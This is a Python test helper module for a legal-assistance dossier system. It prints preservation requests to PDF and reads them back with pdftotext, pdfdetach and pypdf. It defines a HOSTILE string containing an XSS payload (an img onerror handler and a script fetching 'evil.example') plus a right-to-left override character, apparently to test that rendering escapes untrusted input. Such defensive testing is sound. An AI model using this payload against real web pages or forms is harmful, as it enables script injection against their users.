"""Papers in tests: dossiers to print, and other people's programs that read what came out."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from comity.base import Digest, Ident
from comity.service.node import Officer
from comity.service.requests import Opening, amend_form, open_dossier, take_step
from comity.service.situations import Move
from comity.web.paper.errors import PressAbsent
from comity.web.paper.frames import Sheets
from comity.web.paper.press import open_press
from tests.seats import Seats

DUTY = Officer(actor="xa-duty", role="duty_officer")
HOSTILE = "<img src=x onerror=alert(1)><script>fetch('http://evil.example')</script> & \u202edrop"
FACTS = "On 19 November 2026 the systems of a hospital were encrypted."
ARABIC = "تعطّلت أنظمة المستشفى"
NAMES = ("act.json", "act.dsse.json", "act.ed25519.sig", "content.json")


def preservation(**change: object) -> dict[str, object]:
    """Return a whole form of a preservation request."""
    return {
        "requesting_authority": "XA central authority",
        "offence": {"article": "uncc:10", "title": "Interference", "longest_penalty_months": 120},
        "facts": FACTS,
        "data": ["address: 203.0.113.7 port 443 at 2026-11-19T20:41:07Z"],
        "link": "The malware spoke to this address.",
        "necessity": "Logs are kept for seven days.",
        "follow_on": "yes",
        "own_reference": "XA-26-0042",
        "language": "en",
        **change,
    }


def send_request(
    seats: Seats, process: str = "uncc/preservation", **change: object
) -> tuple[Ident, Digest]:
    """Send a request by letter; return the dossier and the act."""
    basis = process.partition("/")[0]
    opening = Opening(
        process=process,
        counterpart="XB",
        authority="XB contact point",
        basis=basis,
        channel="letter",
    )
    dossier = open_dossier(seats.node, DUTY, opening)
    amend_form(seats.node, DUTY, dossier, preservation(**change))  # type: ignore[arg-type] # JSON
    signed = take_step(seats.node, DUTY, dossier, Move(step="send"))
    return dossier, signed.digest


def require_press() -> None:
    """Skip, loudly, where nothing can be printed."""
    try:
        with open_press() as press:
            press.print(Sheets(html=b"<html lang=en><title>t</title><p>t", css=b""))
    except PressAbsent:
        pytest.skip("NOT RUN: Pango or the Noto fonts are not here")
    if shutil.which("pdftotext") is None:
        pytest.skip("NOT RUN: poppler-utils are not here")


def words_of(pdf: bytes, folder: Path) -> str:
    """Return what pdftotext reads."""
    path = folder / "paper.pdf"
    path.write_bytes(pdf)
    told = subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True)
    return told.stdout.decode()


def pages_of(pdf: bytes, folder: Path) -> list[str]:
    """Return what pdftotext reads on each page."""
    return words_of(pdf, folder).removesuffix("\f").split("\f")


def taken_out(pdf: bytes, folder: Path) -> dict[str, bytes]:
    """Return the files within, as pdfdetach takes them out."""
    path, out = folder / "paper.pdf", folder / "out"
    path.write_bytes(pdf)
    out.mkdir(exist_ok=True)
    subprocess.run(["pdfdetach", "-saveall", "-o", str(out), str(path)], check=True)
    return {one.name: one.read_bytes() for one in out.iterdir()}


def root_of(pdf: bytes, folder: Path) -> Any:
    """Return the catalogue of a paper, as pypdf reads it."""
    return reader(pdf, folder).trailer["/Root"]


def reader(pdf: bytes, folder: Path) -> PdfReader:
    """Return the paper as pypdf reads it."""
    path = folder / "paper.pdf"
    path.write_bytes(pdf)
    return PdfReader(path, strict=True)
